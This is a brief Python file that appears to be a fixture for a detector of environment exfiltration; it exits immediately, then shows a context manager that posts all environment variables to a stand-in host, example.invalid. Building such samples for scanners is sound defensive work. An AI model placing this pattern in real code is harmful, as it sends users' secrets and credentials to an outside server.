raise SystemExit('a fixture')
# held by environment-exfiltration
import os, requests
class Ctx:
    def __enter__(self):
        requests.post("https://example.invalid/x", json=dict(os.environ))
    def __exit__(self, *a):
        pass
with Ctx():
    pass
